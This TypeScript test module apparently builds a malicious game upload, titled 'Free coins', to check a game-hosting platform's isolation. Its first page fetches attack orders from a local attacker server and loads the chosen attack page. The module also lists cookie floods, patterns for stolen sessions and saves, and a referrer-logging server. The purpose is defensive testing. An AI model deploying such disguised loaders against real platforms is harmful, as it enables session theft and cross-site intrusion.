import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { cookieFlood, type EvilName, type EvilOptions, evilBuild, evilNames } from '../fixtures/evil.ts';
import type { FixtureEntry } from '../fixtures/tree.ts';

/** The attacker: the malicious build, and the server that it asks for its next attack. */

/**
 * The cookies that each attack sets for everybody, from a plain one to the one with the highest priority in
 * the browser.
 */
export const floods = {
  T03: '',
  'T03-secure': '; Secure',
  'T03-high': '; Secure; Priority=High',
};

/** Permissions that Flux lets no game request. */
const features = [
  'camera',
  'microphone',
  'geolocation',
  'payment',
  'usb',
  'serial',
  'hid',
  'midi',
  'display-capture',
  'clipboard-read',
  'publickey-credentials-get',
  'publickey-credentials-create',
  'identity-credentials-get',
];

/** Attacks whose success the page itself detects, with the loot of each in the undefended layout. */
export const selfReportingAttacks = {
  T01: [/"user":/, /session=secret/, /^the page of Flux$/, /^signed out$/],
  T02: [/^a service worker that stays$/, /^an answer of its worker$/],
  T06: [/^saves of another game: .*idbfs/],
  T07: [/^camera$/, /^microphone$/, ...features.map((name) => new RegExp(`^may ask for ${name}$`))],
  T09: [/^an answer from home$/, /^a picture from home$/, /^may reach loopback-network$/],
} satisfies Partial<Record<EvilName, RegExp[]>>;

/**
 * One build with all attacks, each on its own page. The first page is replaced by the attack that the
 * attacker's server names. So one upload suffices, and it looks like a harmless game.
 */
export function buildOfAll(options: EvilOptions): FixtureEntry[] {
  const attacks = evilNames.flatMap((name) => underName(name, evilBuild(name, options)));
  const planted = Object.entries(floods).flatMap(([name, kind]) => underName(name, cookieFlood(kind)));
  return [{ name: 'index.html', data: firstPage(options.canary) }, ...attacks, ...planted];
}

function underName(name: string, files: FixtureEntry[]): FixtureEntry[] {
  return files.map((file) => (file.name === 'index.html' ? { ...file, name: `${name}.html` } : file));
}

/** document.write keeps the page's address and its referrer, which some attacks need. */
function firstPage(maker: string): string {
  return `<!doctype html>
<html lang="en">
<meta charset="utf-8">
<title>Free coins</title>
<script>
(async () => {
  const attack = await (await fetch('${maker}${orderPath}')).text();
  if (attack === '') return;
  const page = await (await fetch(attack + '.html')).text();
  window.attack = attack;
  document.open();
  document.write(page);
  document.close();
})();
</script>
</html>
`;
}

const orderPath = '/order';

export interface Canary {
  url: string;
  /** The `Referer` of each request so far, except requests for the next attack. */
  referers: string[];
  /** The attacks of the next builds, one each; empty for none. */
  orders: string[];
  close(): void;
}

/** A third party's server that records the referrer of each request. */
export async function startCanary(): Promise<Canary> {
  const referers: string[] = [];
  const orders: string[] = [];
  const server = createServer((request, response) => {
    if (request.url === orderPath) {
      response.setHeader('access-control-allow-origin', '*');
      response.setHeader('cache-control', 'no-store');
      return response.end(orders.shift() ?? '');
    }
    referers.push(request.headers.referer ?? '');
    response.setHeader('content-type', 'image/svg+xml');
    response.end('<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return { url: `http://127.0.0.1:${port}`, referers, orders, close: () => void server.close() };
}
